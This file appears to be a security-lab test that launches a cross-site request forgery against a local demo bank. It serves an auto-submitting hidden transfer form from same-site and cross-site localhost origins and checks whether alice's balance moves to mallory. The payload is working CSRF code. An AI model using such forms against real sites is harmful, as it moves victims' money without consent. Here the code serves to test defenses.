/**
 * alice is signed in to her bank at http://localhost:<port>. She visits two pages of the
 * attacker's, each of which posts a hidden transfer form to the bank the moment it loads:
 *
 *   http://localhost:<attacker port>  same-site as the bank (the port does not count for "site"),
 *                                     cross-origin (the port counts for "origin")
 *   http://127.0.0.1:<attacker port>  cross-site: another host name
 *
 * One attacker server serves both: only the host name in the address differs.
 */
import { createServer } from 'node:http';
import { blocked, defineAttack, worked } from '@authlab/lab-kit';

export default defineAttack({
  title: "make alice's browser send mallory 100 from a page on another port of localhost and from 127.0.0.1",
  why: "the browser sends alice's cookie with a form that another page posts, and the bank never asks where the post came from",
  async run(lab) {
    const bank = lab.info.appUrl as string;
    const evilPage = `<!doctype html><form method="post" action="${bank}/transfer">
      <input name="to" value="mallory"><input name="amount" value="100"></form>
      <script>document.forms[0].submit()</script>`;
    const attacker = createServer((_req, res) => res.writeHead(200, { 'content-type': 'text/html' }).end(evilPage));
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    const { port } = attacker.address() as { port: number };

    try {
      // alice signs in to her bank as usual.
      const alice = await (await lab.browser()).newContext();
      const bankTab = await alice.newPage();
      await bankTab.goto(bank);
      await bankTab.getByLabel('Username').fill('alice');
      await bankTab.getByLabel('Password').fill('wonderland-42');
      await bankTab.getByRole('button', { name: 'Sign in' }).click();
      await bankTab.getByRole('heading', { name: 'Hello alice' }).waitFor();
      const balance = async () => {
        const account = await bankTab.goto(`${bank}/account`);
        if (!account?.ok()) throw new Error(`GET /account as alice answered ${account?.status()}`);
        return ((await account.json()) as { balance: number }).balance;
      };

      // Then she opens the attacker's pages in new tabs; each one posts its form as soon as it loads.
      const results: string[] = [];
      let moved = 0;
      for (const [kind, origin] of [
        ['same-site page', `http://localhost:${port}`],
        ['cross-site page', `http://127.0.0.1:${port}`],
      ] as const) {
        const before = await balance();
        const tab = await alice.newPage();
        const answer = tab.waitForResponse((response) => response.url() === `${bank}/transfer`);
        await tab.goto(origin, { waitUntil: 'commit' });
        const status = (await answer).status();
        await tab.waitForURL((url) => url.href.startsWith(`${bank}/`)); // the tab has landed on the bank's answer
        const after = await balance();
        moved += before - after;
        results.push(
          before > after
            ? `${kind} ${origin}: moved ${before - after} to mallory (the bank answered ${status})`
            : `${kind} ${origin}: nothing moved (the bank answered ${status})`,
        );
      }
      const evidence = `${results.join('; ')}.`;
      return moved > 0 ? worked(evidence) : blocked(evidence);
    } finally {
      attacker.close();
    }
  },
});
